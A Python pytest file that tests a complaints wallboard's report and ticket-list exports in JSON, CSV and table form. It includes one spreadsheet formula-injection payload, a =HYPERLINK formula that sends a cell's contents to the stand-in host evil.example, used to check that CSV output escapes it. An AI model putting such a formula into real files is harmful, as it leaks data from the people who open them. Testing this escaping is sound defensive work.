"""`wallboard report complaints` through a real process: the same figures as the report's
function, as JSON, CSV (cells a spreadsheet takes literally) and a table for people."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from db import open_database
from tickets import users
from tickets.outcomes import outcome_report
from tickets.service import ComplaintService
from wallboard.config import Settings

LONDON = ZoneInfo("Europe/London")
HOSTILE_CATEGORY = '=HYPERLINK("http://evil.example/?"&A1,"refund")'


def at(day: int, hour: int) -> float:
    return datetime(2025, 6, day, hour, tzinfo=LONDON).timestamp()


@pytest.fixture
def week(wallboard, tmp_path):
    """Three complaints in the week of Monday 2 June 2025 (BST), long since judged."""
    (tmp_path / "config.toml").write_text('[site]\ntimezone = "Europe/London"\n')
    settings = Settings()
    settings.site.timezone = "Europe/London"
    engine = open_database(os.environ["WALLBOARD_DB"], migrate=True)
    users.add_user(engine, "ann", "agent")
    clock_now = [at(2, 9)]
    svc = ComplaintService(engine, settings, lambda: clock_now[0])
    fields = dict(customer="Mrs Jones", contact="0207", subject="Refund", description="Late.", severity="normal")
    first = svc.create("ann", category="refund", call_queue="billing", **fields).ref
    clock_now[0] = at(2, 10)
    svc.acknowledge(first, "ann")
    svc.start(first, "ann")
    clock_now[0] = at(3, 10)
    svc.resolve(first, "ann", resolution="Refunded", root_cause="process")
    clock_now[0] = at(4, 9)
    svc.create("ann", category=HOSTILE_CATEGORY, **fields)
    clock_now[0] = at(5, 9)
    svc.create("ann", channel="email", **fields)
    yield engine, settings
    engine.dispose()


def test_json_csv_and_table(wallboard, week):
    engine, settings = week
    window = ("--from", "2025-06-02", "--to", "2025-06-09")
    printed = json.loads(wallboard("report", "complaints", *window, "--by", "category", "--format", "json").stdout)
    expected = outcome_report(engine, settings, at(2, 0), at(9, 0), time.time(), "category").as_dict()
    assert {k: v for k, v in printed.items() if k != "as_of"} == {
        k: json.loads(json.dumps(v)) for k, v in expected.items() if k != "as_of"
    }
    assert [g["group"] for g in printed["groups"]] == [HOSTILE_CATEGORY, "refund", "(none)"]
    assert printed["total"]["received"] == 3 and printed["total"]["resolved_on_time"] == 1
    assert printed["root_cause_pareto"][0]["root_cause"] == "process"

    rows = list(
        csv.DictReader(
            io.StringIO(wallboard("report", "complaints", *window, "--by", "category", "--format", "csv").stdout)
        )
    )
    assert [r["group"] for r in rows] == ["'" + HOSTILE_CATEGORY, "refund", "(none)", "total"]
    assert rows[-1]["received"] == "3" and rows[1]["resolve_median_seconds"] == str(
        11 * 3600.0
    )  # Mon 09:00 to Tue 10:00

    table = wallboard("report", "complaints", *window).stdout
    assert "billing" in table and "received" in table and "Root causes (Pareto)" in table


def test_bad_grouping_is_one_line(wallboard):
    result = wallboard("report", "complaints", "--by", "mood", ok=False)
    assert result.returncode != 0 and "Invalid value for '--by'" in result.stderr


def test_ticket_list_exports_every_column_streamed(wallboard, week):
    from tickets.export import COLUMNS

    exported = wallboard("ticket", "list", "--all", "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(exported)))
    assert tuple(rows[0]) == COLUMNS
    first, second, third = (dict(zip(COLUMNS, row)) for row in rows[1:])
    # Local time (BST), a spreadsheet's date-time; on-time flags as yes/no, pending empty.
    assert first["ref"] == "C-000001" and first["created_at"] == "2025-06-02 09:00:00"
    assert (first["status"], first["owner"], first["queue"], first["root_cause"]) == (
        "resolved",
        "ann",
        "billing",
        "process",
    )
    assert (first["ack_on_time"], first["resolved_on_time"]) == ("yes", "yes")
    assert (third["ack_on_time"], third["resolved_on_time"], third["channel"]) == ("no", "no", "email")
    # Formula-like text is made literal for the spreadsheet: the category, the contact's "+".
    assert second["category"] == "'" + HOSTILE_CATEGORY and second["contact"] == "0207"

    document = json.loads(wallboard("ticket", "list", "--format", "json").stdout)
    assert [c["ref"] for c in document["complaints"]] == ["C-000002", "C-000003"]  # open ones by default
    assert document["complaints"][0]["created_at"] == "2025-06-04T09:00:00+01:00"
    assert document["complaints"][0]["category"] == HOSTILE_CATEGORY  # JSON carries text as it is
    assert (
        len(json.loads(wallboard("ticket", "list", "--all", "--format", "json", "--limit", "1").stdout)["complaints"])
        == 1
    )
    # The table and --json stay as they were.
    assert [c["ref"] for c in json.loads(wallboard("ticket", "list", "--json").stdout)["complaints"]] == [
        "C-000002",
        "C-000003",
    ]
    assert "C-000003" in wallboard("ticket", "list").stdout
    received = wallboard("ticket", "list", "--all", "--from", "2025-06-04", "--to", "2025-06-05", "--format", "csv")
    assert [row[0] for row in csv.reader(io.StringIO(received.stdout))] == ["ref", "C-000002"]
    refused = wallboard("ticket", "list", "--json", "--format", "csv", ok=False)
    assert refused.returncode == 1 and "--json cannot be combined with --format" in refused.stderr
